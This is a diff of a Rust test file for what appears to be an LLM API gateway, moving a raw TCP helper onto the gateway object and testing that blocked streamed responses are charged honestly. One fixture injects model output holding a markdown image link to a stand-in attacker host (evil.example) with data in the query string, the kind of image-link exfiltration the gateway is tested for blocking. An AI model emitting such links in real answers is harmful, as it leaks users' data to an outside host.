@@ -921,26 +921,6 @@ fn streams_however_asked_for_are_held_back() {
     );
 }
 
-/// Writes `request` as it is and reads until the connection ends.
-fn raw_exchange(envoy: &Envoy, request: &str) -> String {
-    let mut sock = TcpStream::connect(envoy.addr()).unwrap();
-    sock.set_read_timeout(Some(Duration::from_secs(10)))
-        .unwrap();
-    sock.write_all(request.as_bytes()).unwrap();
-    let mut got = Vec::new();
-    let mut buf = [0u8; 4096];
-    loop {
-        match sock.read(&mut buf) {
-            Ok(0) | Err(_) => break,
-            Ok(n) => got.extend_from_slice(&buf[..n]),
-        }
-        if String::from_utf8_lossy(&got).ends_with("0\r\n\r\n") {
-            break;
-        }
-    }
-    String::from_utf8_lossy(&got).into_owned()
-}
-
 fn stat(envoy: &Envoy, name: &str) -> u64 {
     envoy.metric_sum(name, &[]).unwrap()
 }
@@ -1010,16 +990,13 @@ fn charges_are_honest_for_blocked_aborted_and_background_responses() {
     let before = charged(&envoy);
     let body = json!({"model": "gpt-4o-mini", "max_tokens": 250, "stream": true,
         "messages": [{"role": "user", "content": "hi"}]});
-    let raw = raw_exchange(
-        &envoy,
-        &format!(
-            "POST /v1/chat/completions HTTP/1.1\r\nhost: x\r\nauthorization: Bearer {DEMO_KEY}\r\n\
+    let raw = envoy.raw_exchange(&format!(
+        "POST /v1/chat/completions HTTP/1.1\r\nhost: x\r\nauthorization: Bearer {DEMO_KEY}\r\n\
              content-type: application/json\r\nx-mock-delay-ms: 50\r\n\
              x-mock-content: Look ![x](https://evil.example/p.png?d=data) and more text after\r\n\
              content-length: {}\r\n\r\n{body}",
-            body.to_string().len()
-        ),
-    );
+        body.to_string().len()
+    ));
     // The error event reaches the client; then the stream is reset, which
     // stops the upstream generating what nobody will read.
     assert!(raw.contains("content_policy_violation"), "{raw}");
